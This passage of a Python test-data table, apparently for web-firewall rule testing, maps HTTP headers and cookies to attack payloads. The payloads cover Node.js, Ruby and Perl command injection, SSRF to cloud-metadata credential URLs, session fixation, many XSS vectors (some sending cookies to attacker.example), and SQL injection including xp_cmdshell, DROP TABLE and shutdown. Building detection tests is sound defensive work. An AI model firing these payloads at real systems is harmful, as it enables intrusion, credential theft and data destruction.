        ("h:X-Client-Name", "global['pro'+'cess']['env']"),
        ("c:session_data", '{"a":"_$$ND_FUNC$$_function(){return require(\'os\').hostname()}()"}'),
        ("h:X-Tenant-Id", "import('child_process').then(m=>m.execSync('id'))"),
        ("h:X-Api-Version", "module.constructor._load('child_process')"),
        ("h:X-Locale", "vm.runInNewContext('this.constructor.constructor(\"return process\")()')"),
    ]),
    ("generic", "nodejs-dos", [
        ("c:prefs", "while(true){}"),
        ("h:X-Filter", "for(;;){}"),
        ("h:X-Search", "new Array(1e9).fill(0)"),
        ("h:X-Client-Name", "(function f(){f()})()"),
        ("c:theme", "while(1);"),
        ("h:X-Tenant-Id", "process.kill(process.pid,'SIGKILL')"),
        ("h:X-Api-Version", "'a'.repeat(2**30)"),
        ("h:X-Locale", "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!')"),
    ]),
    ("generic", "prototype-pollution", [
        ("cn", "__proto__[isAdmin]"),
        ("c:prefs", '{"__proto__":{"isAdmin":true}}'),
        ("cn", "constructor[prototype][role]"),
        ("h:X-Filter", "__proto__.admin=1"),
        ("c:settings", '{"constructor":{"prototype":{"shell":"/bin/sh"}}}'),
        ("h:X-Search", "a[__proto__][toString]=x"),
        ("c:session_data", _b64('{"__proto__":{"role":"admin"}}')),
        ("h:X-Tenant-Id", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process')"
                          ".execSync('id');s"),
    ]),
    ("generic", "ssrf-cloud-metadata", [
        ("h:X-Callback-Url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("c:avatar_src", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("h:X-Webhook-Url", "http://100.100.100.200/latest/meta-data/"),
        ("h:Referer", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
        ("h:X-Avatar-Url", "http://[fd00:ec2::254]/latest/api/token"),
        ("h:X-Import-Url", "http://169.254.170.2/v2/credentials/"),
        ("h:X-Forwarded-Host", "metadata.google.internal"),
        ("c:return_to", "http://instance-data/latest/user-data"),
    ]),
    ("generic", "ssrf-ip-url", [
        ("h:X-Callback-Url", "http://2130706433/admin"),
        ("c:avatar_src", "http://0x7f000001:8080/"),
        ("h:X-Webhook-Url", "http://0177.0.0.1/server-status"),
        ("h:X-Import-Url", "http://[::ffff:7f00:1]/"),
        ("h:X-Avatar-Url", "http://127.1:6379/"),
        ("c:return_to", "http://[0:0:0:0:0:ffff:a00:1]/"),
        ("h:Referer", "http://10.0.0.5:2375/containers/json"),
        ("h:X-Include", "http://0/"),
    ]),
    ("generic", "ruby-injection", [
        ("c:prefs", "Kernel.exec('id')"),
        ("h:X-Filter", "`id`.to_s"),
        ("h:X-Search", "%x(cat /etc/passwd)"),
        ("h:X-Client-Name", "IO.popen('id').read"),
        ("c:theme", "<%= system('id') %>"),
        ("h:X-Tenant-Id", "Object.const_get('Kernel').send(:system,'id')"),
        ("h:X-Api-Version", "eval(\"Kernel.system('id')\")"),
        ("h:X-Locale", "Open3.capture2('id')"),
    ]),
    ("generic", "perl-injection", [
        ("c:prefs", "perl -e 'system(\"id\")'"),
        ("h:X-Filter", "@{[system 'id']}"),
        ("h:X-Search", "qx{cat /etc/passwd}"),
        ("h:X-Client-Name", "open(F,'|id');"),
        ("c:theme", "eval{`id`}"),
        ("h:X-Tenant-Id", "use POSIX; POSIX::system('id')"),
        ("h:X-Api-Version", "$ENV{PATH}"),
        ("h:X-Locale", "perl -MIO -e '$p=fork;exit,if($p);'"),
    ]),
    ("generic", "session-fixation-set-cookie", [
        ("c:prefs", '<meta http-equiv="Set-Cookie" content="sessionid=attacker1">'),
        ("h:X-Client-Name", '<script>document.cookie="PHPSESSID=fixed123;path=/"</script>'),
        ("h:X-Search", "document.cookie='sid=abc;domain=.example.com'"),
        ("h:Referer", 'https://app.example.com/?x=<meta http-equiv=set-cookie content="JSESSIONID=1">'),
        ("c:recent_search", "%3Cmeta%20http-equiv%3D%22Set-Cookie%22%20content%3D%22session%3Dx%22%3E"),
        ("h:User-Agent", 'Mozilla/5.0 <script>document.cookie="session=attacker"</script>'),
        ("h:X-Locale", '.cookie="ASP.NET_SessionId=z"'),
    ]),
    ("generic", "session-fixation-off-domain-referer", [
        ("h:Referer", "https://attacker.example/promo?PHPSESSID=4f1e2d3c4b5a69788796a5b4c3d2e1f0"),
        ("h:Referer", "http://evil.example.net/?jsessionid=ABCDEF0123456789ABCDEF0123456789"),
        ("h:Referer", "https://attacker.example/r?sessionid=fixated&next=/me/settings"),
        ("h:X-Return-To", "https://app.example.com/login;jsessionid=0123ABC?from=https://attacker.example"),
        ("h:Referer", "https://attacker.example/x?ASPSESSIONIDQQGGGNCU=FIXEDVALUE"),
        ("h:Referer", "https://attacker.example/a?sid=abcdef0123456789&PHPSESSID=abcdef0123456789"),
        ("h:Referer", "https://mail.attacker.example/link?session_id=s3ss10nf1x"),
    ]),
    ("generic", "session-fixation-no-referer", [
        ("h:X-Return-To", "/me/settings?PHPSESSID=attackerchosen01"),
        ("h:X-Filter", "jsessionid=FIXED0123456789"),
        ("c:return_to", "/login?sessionid=fixated42"),
        ("h:X-Callback-Url", "https://app.example.com/cb;jsessionid=A1B2C3D4E5"),
        ("h:X-Search", "PHPSESSID=1234567890abcdef"),
        ("h:X-Original-URL", "/admin/users?jsessionid=FIX123"),
    ]),
    # ---------------------------------------------------------------- XSS
    ("xss", "xss-libinjection", [
        ("h:Referer", "https://app.example.com/search?q=<script>alert(document.domain)</script>"),
        ("c:recent_search", "<img src=x onerror=alert(1)>"),
        ("h:User-Agent", "Mozilla/5.0 <svg/onload=alert(1)>"),
        ("h:X-Client-Name", "\"><script>fetch('//attacker.example/'+document.cookie)</script>"),
        ("c:theme", 'dark"><body onload=alert(1)>'),
        ("h:X-Search", "<iframe src=javascript:alert(1)>"),
        ("h:Accept-Language", 'en"><img src=1 onerror=prompt(1)>'),
        ("h:X-Locale", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ]),
    ("xss", "xss-libinjection-referer", [
        ("h:Referer", 'https://app.example.com/"><script>alert(1)</script>'),
        ("h:Referer", "<svg onload=alert(1)>"),
        ("h:Referer", "https://partner.example.net/landing?utm_source=<img src=x onerror=alert(document.cookie)>"),
        ("h:Referer", "javascript:alert(1)//https://app.example.com/"),
        ("h:Referer", "https://app.example.com/#<img/src/onerror=alert(1)>"),
        ("h:Origin", 'https://app.example.com"><script>alert(1)</script>'),
        ("h:Referer", "https://app.example.com/p'onmouseover='alert(1)"),
    ]),
    ("xss", "xss-script-tag", [
        ("c:recent_search", "<script>alert(1)</script>"),
        ("h:X-Client-Name", "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>"),
        ("h:User-Agent", "<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
        ("h:X-Locale", '<script type="text/javascript">alert(1)</script>'),
        ("c:display_name", "<scr<script>ipt>alert(1)</script>"),
        ("h:Referer", "https://app.example.com/?<script>alert(1)</script>"),
        ("h:X-Search", "<script\t>alert(1)</script >"),
        ("cn", "<script>alert(1)</script>"),
    ]),
    ("xss", "xss-event-handler", [
        ("c:theme", '" onmouseover="alert(1)'),
        ("h:X-Client-Name", "<body onload=alert(1)>"),
        ("h:X-Search", "<div onpointerenter=alert(1)>x</div>"),
        ("h:User-Agent", 'Mozilla/5.0 " onfocus=alert(1) autofocus="'),
        ("c:display_name", "<details open ontoggle=alert(1)>"),
        ("h:Referer", "https://app.example.com/?x=<video><source onerror=alert(1)>"),
        ("h:X-Locale", "en' onanimationstart='alert(1)"),
        ("h:Accept-Language", 'x"onerror="alert(1)'),
    ]),
    ("xss", "xss-attribute-vector", [
        ("c:prefs", '<a xlink:href="javascript:alert(1)">x</a>'),
        ("h:X-Client-Name", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
        ("h:X-Search", "<button formaction=javascript:alert(1)>x</button>"),
        ("h:Referer", 'https://app.example.com/?<object data="data:text/html;base64,'
                      'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
        ("c:theme", '<div style="background:url(javascript:alert(1))">'),
        ("h:X-Locale", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
        ("h:User-Agent", "<svg><animate attributeName=href values=javascript:alert(1) />"),
    ]),
    ("xss", "xss-javascript-uri", [
        ("h:Referer", "javascript:alert(document.cookie)"),
        ("c:return_to", "javascript:alert(1)"),
        ("h:X-Callback-Url", "JaVaScRiPt:alert(1)"),
        ("h:Origin", "javascript://app.example.com/%0aalert(1)"),
        ("c:avatar", "java\tscript:alert(1)"),
        ("h:X-Client-Name", "<a href=\"javascript:void(fetch('//attacker.example'))\">"),
        ("h:X-Filter", "vbscript:msgbox(1)"),
        ("h:X-Search", "javascript&colon;alert(1)"),
    ]),
    ("xss", "xss-html-injection", [
        ("c:recent_search", "<form action=//attacker.example/login><input name=pass>"),
        ("h:X-Client-Name", '<meta http-equiv="refresh" content="0;url=//attacker.example">'),
        ("h:X-Search", "<base href=//attacker.example/>"),
        ("h:User-Agent", "<embed src=//attacker.example/x.swf>"),
        ("c:theme", "<link rel=import href=//attacker.example/x.html>"),
        ("h:Referer", "https://app.example.com/?<applet code=x.class>"),
        ("h:X-Locale", "<isindex action=javascript:alert(1) type=image>"),
        ("h:X-Tenant-Id", "<style>@import'//attacker.example/x.css';</style>"),
    ]),
    ("xss", "xss-attribute-injection", [
        ("c:theme", 'dark" style="x:expression(alert(1))'),
        ("h:X-Client-Name", "x' src='javascript:alert(1)"),
        ("h:X-Search", '" href="javascript:alert(1)" x="'),
        ("h:User-Agent", 'Mozilla/5.0" onload="alert(1)'),
        ("c:locale", 'en" formaction="javascript:alert(1)'),
        ("h:Referer", 'https://app.example.com/" data="javascript:alert(1)'),
        ("h:X-Locale", "'style='behavior:url(//attacker.example/x.htc)"),
    ]),
    ("xss", "xss-blacklist-keywords", [
        ("c:prefs", "document.cookie"),
        ("h:X-Client-Name", "document.write('<img src=//attacker.example/'+1+'>')"),
        ("h:X-Search", "x.parentNode.innerHTML=''"),
        ("h:User-Agent", "Mozilla/5.0 window.location='//attacker.example'"),
        ("c:theme", "-moz-binding:url(//attacker.example/x.xml#x)"),
        ("h:Referer", "https://app.example.com/?<![CDATA[<script>]]>"),
        ("h:X-Locale", "<!--<img src=--><img src=x onerror=alert(1)//-->"),
    ]),
    ("xss", "ie-style-expression", [
        ("c:theme", "<style>body{background:expression(alert(1))}</style>"),
        ("h:X-Client-Name", "<STYLE>@import'javascript:alert(1)';</STYLE>"),
        ("h:X-Search", '<div style="width:expression(alert(document.cookie))">'),
        ("h:User-Agent", '<style>li{list-style-image:url("javascript:alert(1)")}</style>'),
        ("c:prefs", "<style>*{x:expr/**/ession(alert(1))}</style>"),
        ("h:Referer", "https://app.example.com/?<style type=text/css>@im\\port'//attacker.example/x.css';</style>"),
        ("h:X-Locale", "<style>a{behavior:url(#default#time2)}</style>"),
    ]),
    ("xss", "ie-vmlframe", [
        ("c:prefs", '<v:vmlframe src="//attacker.example/x.vml#x">'),
        ("h:X-Client-Name", "<vmlframe src=javascript:alert(1)>"),
        ("h:X-Search", "<xml:namespace prefix=v><v:vmlframe src=//attacker.example/v>"),
        ("h:User-Agent", '<v:rect style="behavior:url(#default#VML)"><v:vmlframe src=x>'),
        ("c:theme", '<VMLFRAME SRC="http://attacker.example/a.vml">'),
        ("h:Referer", "https://app.example.com/?<v:vmlframe src=//attacker.example/x>"),
    ]),
    ("xss", "ie-obfuscated-javascript", [
        ("c:return_to", "j&#97;vascript:alert(1)"),
        ("h:X-Callback-Url", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
        ("h:Referer", "jav&#x09;ascript:alert(1)"),
        ("h:X-Client-Name", '<a href="ja&#x0A;vascript:alert(1)">x</a>'),
        ("c:avatar", "j%26%2397%3Bvascript%3Aalert(1)"),
        ("h:Origin", "jav&#x61;script:alert(document.domain)"),
        ("h:X-Search", '<img src="j&#X41vascript:alert(1)">'),
    ]),
    ("xss", "ie-obfuscated-vbscript", [
        ("c:return_to", "vbscript:msgbox(1)"),
        ("h:X-Callback-Url", "v&#98;script:msgbox(document.cookie)"),
        ("h:Referer", 'vb&#x09;script:execute("msgbox 1")'),
        ("h:X-Client-Name", '<a href="&#118;&#98;script:msgbox(1)">'),
        ("c:theme", 'VBSCRIPT:Execute("x")'),
        ("h:X-Search", '<img src="v&#x62;scr&#105;pt:msgbox(1)">'),
    ]),
    ("xss", "ie-embed", [
        ("c:prefs", '<embed src="//attacker.example/x.swf" allowscriptaccess=always>'),
        ("h:X-Client-Name", '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
        ("h:X-Search", "<embed code=javascript:alert(1)>"),
        ("h:User-Agent", '<embed type="application/x-shockwave-flash" src=//attacker.example/f.swf>'),
        ("c:recent_search", "%3Cembed%20src%3D%2F%2Fattacker.example%2Fx%3E"),
        ("h:Referer", "https://app.example.com/?<embed src=javascript:alert(1)>"),
    ]),
    ("xss", "ie-import-implementation", [
        ("c:prefs", '<?import namespace="t" implementation="#default#time2">'),
        ("h:X-Client-Name", '<import implementation="//attacker.example/x.htc">'),
        ("h:X-Search", "<html xmlns:t><?import namespace=t implementation=#default#time2>"
                       "<t:set attributeName=innerHTML to=<img/src/onerror=alert(1)>>"),
        ("h:User-Agent", "<IMPORT NAMESPACE=x IMPLEMENTATION=//attacker.example/x.htc>"),
        ("c:theme", '<?import implementation="javascript:alert(1)">'),
        ("h:Referer", "https://app.example.com/?<?import namespace=v implementation=#default#VML?>"),
    ]),
    ("xss", "ie-meta-refresh", [
        ("c:prefs", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
        ("h:X-Client-Name", '<META HTTP-EQUIV="Set-Cookie" CONTENT="sid=attacker">'),
        ("h:X-Search", '<meta charset="x-imap4-modified-utf7">'),
        ("h:User-Agent", '<meta http-equiv=refresh content="0; url=data:text/html,<script>alert(1)</script>">'),
        ("c:theme", '<meta content="0;javascript:alert(1)" http-equiv=refresh>'),
        ("h:Referer", 'https://app.example.com/?<meta http-equiv="content-security-policy" content="">'),
    ]),
    ("xss", "ie-link-element", [
        ("c:prefs", '<link rel=stylesheet href="javascript:alert(1)">'),
        ("h:X-Client-Name", '<LINK REL="import" HREF="//attacker.example/x.html">'),
        ("h:X-Search", "<link href=//attacker.example/x.css rel=stylesheet type=text/css>"),
        ("h:User-Agent", "<link rel=prefetch href=//attacker.example/?c=1>"),
        ("c:theme", '<link rel=stylesheet href="data:text/css,body{x:expression(alert(1))}">'),
        ("h:Referer", "https://app.example.com/?<link rel=import href=data:text/html,<script>alert(1)</script>>"),
    ]),
    ("xss", "ie-base-href", [
        ("c:prefs", '<base href="javascript:alert(1)//">'),
        ("h:X-Client-Name", '<BASE HREF="//attacker.example/">'),
        ("h:X-Search", "<base target=_top href=//attacker.example>"),
        ("h:User-Agent", '<base href="http://attacker.example/static/"><script src=app.js></script>'),
        ("c:theme", "<base/href=//attacker.example>"),
        ("h:Referer", "https://app.example.com/?<base href=//attacker.example/>"),
    ]),
    ("xss", "ie-applet", [
        ("c:prefs", '<applet code="Exploit.class" codebase="//attacker.example/">'),
        ("h:X-Client-Name", "<APPLET CODE=x ARCHIVE=//attacker.example/x.jar></APPLET>"),
        ("h:X-Search", "<applet code=javascript:alert(1)>"),
        ("h:User-Agent", '<applet src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
        ("c:theme", '<applet object="x.ser" codebase=//attacker.example>'),
        ("h:Referer", "https://app.example.com/?<applet code=A.class width=0>"),
    ]),
    ("xss", "ie-object", [
        ("c:prefs", '<object data="javascript:alert(1)">'),
        ("h:X-Client-Name", '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83">'
                            "<PARAM NAME=DataURL VALUE=javascript:alert(1)></OBJECT>"),
        ("h:X-Search", "<object type=text/x-scriptlet data=//attacker.example/x.sct>"),
        ("h:User-Agent", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
        ("c:theme", "<object codebase=//attacker.example/x.cab>"),
        ("h:Referer", "https://app.example.com/?<object data=//attacker.example/x.swf>"),
    ]),
    ("xss", "ie-data-binding", [
        ("c:prefs", "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
                    "<span datasrc=#x datafld=c dataformatas=html></span>"),
        ("h:X-Client-Name", '<span datasrc="#i" datafld="c" dataformatas="html">'),
        ("h:X-Search", "<div datasrc=//attacker.example/x.xml datafld=a dataformatas=html>"),
        ("h:User-Agent", '<XML SRC="//attacker.example/x.xml" ID=I></XML>'
                         "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>"),
        ("c:theme", '<img dynsrc="javascript:alert(1)">'),
        ("h:Referer", 'https://app.example.com/?<img lowsrc="javascript:alert(1)">'),
    ]),
    ("xss", "xss-us-ascii-malformed", [
        ("c:prefs", "%BCscript%BEalert(1)%BC/script%BE"),
        ("h:X-Client-Name", "\u00bcscript\u00bealert(1)\u00bc/script\u00be"),
        ("h:X-Search", "%BCimg src=x onerror=alert(1)%BE"),
        ("c:recent_search", "%BCsvg onload=alert(1)%BE"),
        ("h:User-Agent", "Mozilla/5.0 \u00bcscript\u00bedocument.location='//attacker.example'\u00bc/script\u00be"),
        ("h:Referer", "https://app.example.com/?x=%BCscript%BEalert(document.cookie)%BC/script%BE"),
    ]),
    ("xss", "xss-utf7", [
        ("c:prefs", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("h:X-Client-Name", "+ADw-img src=x onerror=alert(1)+AD4-"),
        ("h:X-Search", "+ADw-svg onload+AD0-alert(1)+AD4-"),
        ("h:User-Agent", "+ADw-script+AD4-document.location+AD0-'//attacker.example'+ADw-/script+AD4-"),
        ("c:recent_search", "%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-"),
        ("h:Referer", "https://app.example.com/?q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("h:X-Locale", "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)"),
    ]),
    ("xss", "xss-jsfuck", [
        ("c:prefs", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"),
        ("h:X-Client-Name", "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]"),
        ("h:X-Search", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]"),
        ("h:User-Agent", "Mozilla/5.0 ([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]"),
        ("c:recent_search", "%5B%5D%5B(!%5B%5D%2B%5B%5D)%5B%2B%5B%5D%5D%5D"),
        ("h:Referer", "https://app.example.com/?x=[!+[]+!+[]]+[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]"),
        ("h:X-Locale", '$=~[];$={___:++$,$$$$:(![]+"")[$]};'),
    ]),
    ("xss", "xss-js-global", [
        ("c:prefs", "window['al'+'ert'](1)"),
        ("h:X-Client-Name", 'self["\\x61lert"](document.domain)'),
        ("h:X-Search", "top['ev'+'al'](atob('YWxlcnQoMSk='))"),
        ("h:User-Agent", "Mozilla/5.0 parent[/*x*/'alert'](1)"),
        ("c:theme", "globalThis[`alert`](1)"),
        ("h:Referer", "https://app.example.com/?x=frames['document']['cookie']"),
        ("h:X-Locale", "window  [ 'location' ]='//attacker.example'"),
    ]),
    ("xss", "xss-disallowed-attr", [
        ("c:prefs", '<div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick=x>'),
        ("h:X-Client-Name", "<img dynsrc=x.avi>"),
        ("h:X-Search", '<table background="javascript:alert(1)">'),
        ("h:User-Agent", "<img lowsrc=//attacker.example/x.gif>"),
        ("c:theme", "<span datafld=a datasrc=#x>"),
        ("h:Referer", "https://app.example.com/?<p style=x:expression(alert(1))>"),
    ]),
    ("xss", "xss-tag-handler", [
        ("c:prefs", "<frameset onload=alert(1)>"),
        ("h:X-Client-Name", "<iframe src=//attacker.example>"),
        ("h:X-Search", "<form><button>x"),
        ("h:User-Agent", "<marquee behavior=alternate>x</marquee>"),
        ("c:recent_search", "<img src=//attacker.example/track.gif>"),
        ("h:Referer", "https://app.example.com/?<textarea autofocus>"),
        ("h:X-Locale", "<a href=//attacker.example>click</a>"),
    ]),
    ("xss", "ie-quote-assignment", [
        ("c:prefs", "\";location='//attacker.example/?'+document.cookie;//"),
        ("h:X-Client-Name", "';alert(String.fromCharCode(88,83,83))//"),
        ("h:X-Search", '"-alert(1)-"'),
        ("h:User-Agent", "Mozilla/5.0';document.location=\"//attacker.example\";'"),
        ("c:theme", "'+eval(name)+'"),
        ("h:Referer", 'https://app.example.com/?a=";x=document.cookie;"'),
    ]),
    ("xss", "ie-property-assignment", [
        ("c:prefs", '";document.body.innerHTML="<img src=x onerror=alert(1)>";"'),
        ("h:X-Client-Name", "'];window.location.href='//attacker.example';//"),
        ("h:X-Search", "\"}));top.location.hash='x';//"),
        ("h:User-Agent", 'Mozilla/5.0";self.name="x";"'),
        ("c:theme", "');document.domain='example.com';('"),
        ("h:Referer", 'https://app.example.com/?cb=x".constructor.prototype.x="1'),
    ]),
    ("xss", "xss-angular-template", [
        ("c:display_name", "{{constructor.constructor('alert(1)')()}}"),
        ("h:X-Client-Name", "{{$on.constructor('alert(1)')()}}"),
        ("h:X-Search", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}"),
        ("h:User-Agent", "Mozilla/5.0 {{7*7}}"),
        ("c:recent_search", "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
                            "[\"a\",\"alert(1)\"].sort(toString.constructor);}}"),
        ("h:Referer", "https://app.example.com/#!/search?q={{$eval.constructor('alert(1)')()}}"),
        ("h:X-Locale", "{{[].pop.constructor('alert(1)')()}}"),
    ]),
    ("xss", "xss-js-method", [
        ("c:prefs", "alert.call(null,1)"),
        ("h:X-Client-Name", "[1].map(alert)"),
        ("h:X-Search", "Reflect.apply(alert,null,[1])"),
        ("h:User-Agent", "Mozilla/5.0 setTimeout('ale'+'rt(1)')"),
        ("c:recent_search", "eval.call`${'alert\\x281\\x29'}`"),
        ("h:Referer", "https://app.example.com/?x=String.fromCharCode(97,108,101,114,116)"),
        ("h:X-Locale", "atob('YWxlcnQoMSk=')"),
        ("h:X-Tenant-Id", "Function.prototype.bind.call(alert,null,1)()"),
    ]),
    ("xss", "xss-no-parentheses", [
        ("c:prefs", "alert`1`"),
        ("h:X-Client-Name", "onerror=alert;throw 1"),
        ("h:X-Search", "<img src=x onerror=location='javascript:alert%281%29'>"),
        ("h:User-Agent", "Mozilla/5.0 {onerror=eval}throw'=alert\\x281\\x29'"),
        ("c:theme", "setTimeout`alert\\x28document.domain\\x29`"),
        ("h:Referer", "https://app.example.com/?<svg onload=alert&#96;1&#96;>"),
        ("h:X-Locale", "top.onerror=alert;throw document.cookie"),
    ]),
    ("xss", "xss-angular-template-4x", [
        ("c:prefs", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
        ("h:X-Client-Name", "{{$new.constructor('return this')().alert(1)}}"),
        ("h:X-Search", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
        ("h:User-Agent", "{{$eval.constructor('fetch(\"//attacker.example\")')()}}"),
        ("c:recent_search", "%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D"),
        ("h:Referer", "https://app.example.com/?q={{'a'.constructor.fromCharCode(120)}}"),
    ]),
    # ---------------------------------------------------------------- SQLi
    ("sqli", "sqli-libinjection", [
        ("h:X-Tenant-Id", "1' OR '1'='1"),
        ("c:user_id", "42 UNION SELECT username, password FROM users--"),
        ("h:X-Request-Id", "abc' AND 1=CONVERT(int,@@version)--"),
        ("h:X-Filter", "status=active' OR 1=1 -- "),
        ("c:recent_search", "shoes%27%20OR%201%3D1--"),
        ("h:If-None-Match", "33a64df5' OR '1'='1"),
        ("h:Accept-Language", "en-US' AND SLEEP(5)#"),
        ("h:Referer", "https://app.example.com/products?id=1' UNION SELECT NULL,NULL--"),
    ]),
    ("sqli", "sqli-db-names", [
        ("h:X-Filter", "1 UNION SELECT table_name FROM information_schema.tables"),
        ("c:user_id", "1;SELECT * FROM mysql.user"),
        ("h:X-Search", "x' union select name from master..sysdatabases--"),
        ("h:X-Tenant-Id", "acme' AND (SELECT count(*) FROM pg_catalog.pg_tables)>0--"),
        ("c:prefs", "information_schema.columns"),
        ("h:X-Api-Version", "2 union select sql from sqlite_master"),
        ("h:X-Client-Name", "x' and exists(select * from msdb.dbo.backupset)--"),
        ("h:X-Correlation-Id", "' or 1=(select 1 from sys.objects)--"),
    ]),
    ("sqli", "sqli-sleep-benchmark", [
        ("h:X-Tenant-Id", "1 AND SLEEP(10)"),
        ("c:user_id", "42' AND BENCHMARK(5000000,MD5(1))-- "),
        ("h:X-Request-Id", "sleep(5)#"),
        ("h:X-Timezone", "UTC' AND sleep(3)='"),
        ("c:recent_search", "x%27%20and%20sleep(5)%23"),
        ("h:X-Search", "1 or benchmark(10000000,sha1('a'))"),
        ("h:X-Device-Id", "d' XOR(if(now()=sysdate(),sleep(7),0))XOR'Z"),
    ]),
    ("sqli", "sqli-conditional-sleep", [
        ("h:X-Filter", "1 AND IF(1=1,SLEEP(5),0)"),
        ("c:user_id", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)"),
        ("h:X-Tenant-Id", "' OR IF(SUBSTRING(user(),1,1)='r',BENCHMARK(3000000,SHA1(1)),0)-- "),
        ("h:X-Search", "1; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
        ("c:prefs", "select if(ascii(substr(database(),1,1))>97,sleep(3),1)"),
        ("h:X-Client-Name", "x' and (select 1 from dual where sleep(4))='"),
        ("h:X-Correlation-Id", "1 and if((select count(*) from users)>0,sleep(6),0)"),
    ]),
    ("sqli", "sqli-mssql-exec", [
        ("h:X-Tenant-Id", "'; EXEC xp_cmdshell 'whoami'--"),
        ("c:user_id", "1; exec master..xp_cmdshell 'ping 203.0.113.5'--"),
        ("h:X-Filter", "1 union select @@version--"),
        ("h:X-Search", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE--"),
        ("c:prefs", "1;declare @q varchar(99);set @q='\\\\attacker.example\\x';exec master.dbo.xp_dirtree @q--"),
        ("h:X-Client-Name", "x' ; exec('sel'+'ect 1')--"),
        ("h:X-Api-Version", "1 UNION ALL SELECT db_name(),user_name()--"),
        ("h:X-Request-Id", "';shutdown with nowait;--"),
    ]),
    ("sqli", "sqli-integer-overflow", [
        ("c:user_id", "2147483648"),
        ("h:X-Tenant-Id", "4294967296"),
        ("h:X-Api-Version", "3.0.00738585072007e-308"),
        ("h:X-Request-Id", "-2147483649"),
        ("c:page", "18446744073709551616"),
        ("h:Range", "bytes=0-9223372036854775808"),
        ("h:X-Filter", "2.2250738585072011e-308"),
        ("h:X-Device-Id", "1e309"),
    ]),
    ("sqli", "sqli-conditional", [
        ("h:X-Filter", "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END"),
        ("c:user_id", "42) AND IF(1=1,1,0)-- "),
        ("h:X-Tenant-Id", "acme' AND (CASE WHEN (SELECT 1)=1 THEN 'a' ELSE 'b' END)='a"),
        ("h:X-Search", "1 or iif(1=1,1,0)=1"),
        ("c:prefs", "x' and ifnull(1,2)=1--"),
        ("h:X-Client-Name", "') OR IF(LENGTH(database())>1,1,0) AND ('1'='1"),
        ("h:X-Correlation-Id", "1 and elt(1=1,sleep(1))"),
    ]),
    ("sqli", "sqli-charset-dos", [
        ("h:X-Filter", "1' alter database x character set utf32--"),
        ("c:prefs", "x'; SET NAMES 'sjis'--"),
        ("h:X-Search", "%bf%27 OR 1=1-- "),
        ("h:X-Tenant-Id", "'; WAITFOR DELAY '0:0:10'--"),
        ("c:user_id", "1;waitfor time '23:59:59'--"),
        ("h:X-Client-Name", "1 and convert(password using latin1)=0x61"),
        ("h:X-Api-Version", "1; set charset gbk--"),
    ]),
    ("sqli", "sqli-match-merge-exec", [
        ("h:X-Search", "x' AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)--"),
        ("c:prefs", "1; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--"),
        ("h:X-Filter", "'; EXECUTE IMMEDIATE 'DROP TABLE audit'--"),
        ("h:X-Tenant-Id", "1 and match(email) against('a*')"),
        ("c:user_id", "1;execute immediate 'grant dba to public'--"),
        ("h:X-Client-Name", "x');merge users using x on 1=1 when not matched then insert values('a')--"),
    ]),
    ("sqli", "sqli-union-select-from", [
        ("c:user_id", "1 union select * from users"),
        ("h:X-Filter", "x' UNION SELECT password FROM accounts--"),
        ("h:X-Tenant-Id", "0 UNION ALL SELECT email,1 FROM customers"),
        ("h:X-Search", "q%27%20union%20select%20card%20from%20payments--"),
        ("c:prefs", "-1 union/**/select/**/name/**/from/**/sqlite_master"),
        ("h:X-Api-Version", "2' UnIoN SeLeCt token FrOm sessions--"),
        ("h:Range", "bytes=0-100 union select 1 from dual"),
        ("cn", "1 union select * from users"),
    ]),
    ("sqli", "sqli-pg-sleep-waitfor", [
        ("h:X-Tenant-Id", "1; SELECT pg_sleep(10)--"),
        ("c:user_id", "1' || pg_sleep(5) --"),
        ("h:X-Filter", "'; waitfor delay '0:0:5'--"),
        ("h:X-Search", "1;shutdown--"),
        ("c:prefs", "x'); select pg_sleep(3);--"),
